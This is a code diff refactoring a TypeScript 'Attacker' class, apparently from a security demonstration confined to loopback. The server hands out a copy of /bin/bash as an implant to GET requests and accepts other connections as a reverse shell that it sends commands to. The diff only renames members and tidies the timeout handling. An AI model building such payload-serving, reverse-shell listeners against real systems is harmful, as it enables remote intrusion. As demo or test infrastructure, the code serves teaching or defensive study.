@@ -1,21 +1,22 @@
 import { createReadStream } from 'node:fs';
 import type { Socket } from 'node:net';
+import { withDeadline } from '@ringfence/base';
 import { DemoError } from './errors.ts';
 import { LoopbackServer } from './loopback-server.ts';
 
 /**
- * The attacker's machine, on loopback: hands out the implant (a copy of the shell) and takes the reverse shell.
- * Whoever sends a line that starts with GET gets the implant; any other connection is a shell that has come home.
+ * The attacker's machine, on loopback. It sends the implant, a copy of bash, on a connection whose first line starts
+ * with GET, and takes any other connection as the reverse shell.
  */
 export class Attacker implements AsyncDisposable {
   readonly #server: LoopbackServer;
-  readonly #home: Promise<Socket>;
+  readonly #reverseShell: Promise<Socket>;
   #shell: Socket | undefined;
 
-  private constructor(server: LoopbackServer, home: Promise<Socket>) {
+  private constructor(server: LoopbackServer, reverseShell: Promise<Socket>) {
     this.#server = server;
-    this.#home = home;
-    void home.then((socket) => {
+    this.#reverseShell = reverseShell;
+    void reverseShell.then((socket) => {
       this.#shell = socket;
     });
   }
@@ -29,20 +30,14 @@ export class Attacker implements AsyncDisposable {
     return this.#server.port;
   }
 
-  /** The reverse shell, once it is there. */
-  async shell(timeoutMs: number): Promise<Socket> {
-    const { promise, reject } = Promise.withResolvers<never>();
-    const timer = setTimeout(() => reject(new DemoError(`no reverse shell within ${timeoutMs} ms`)), timeoutMs);
-    try {
-      return await Promise.race([this.#home, promise]);
-    } finally {
-      clearTimeout(timer);
-    }
+  /** Waits for the reverse shell. Rejects with DemoError after `timeoutMs`. */
+  waitForShell(timeoutMs: number): Promise<Socket> {
+    return withDeadline(this.#reverseShell, timeoutMs, () => new DemoError(`no reverse shell within ${timeoutMs} ms`));
   }
 
-  /** Says a line to the reverse shell. */
-  say(line: string): void {
-    this.#shell?.write(`${line}\n`);
+  /** Sends a command to the reverse shell. */
+  send(command: string): void {
+    this.#shell?.write(`${command}\n`);
   }
 
   async [Symbol.asyncDispose](): Promise<void> {
@@ -50,12 +45,14 @@ export class Attacker implements AsyncDisposable {
   }
 }
 
-function accept(socket: Socket, shellHome: (socket: Socket) => void): void {
-  // The downloader speaks first; a shell waits to be told. 150 ms of silence tells them apart.
-  const silence = setTimeout(() => shellHome(socket), 150);
+/** A shell sends nothing before its first command, a download starts with a request. */
+const SILENCE_OF_SHELL_MS = 150;
+
+function accept(socket: Socket, onShell: (socket: Socket) => void): void {
+  const timer = setTimeout(() => onShell(socket), SILENCE_OF_SHELL_MS);
   socket.once('data', (chunk) => {
     if (!chunk.toString('latin1').startsWith('GET ')) return;
-    clearTimeout(silence);
+    clearTimeout(timer);
     if (chunk.includes('HTTP/'))
       socket.write('HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n');
     createReadStream('/bin/bash').pipe(socket);
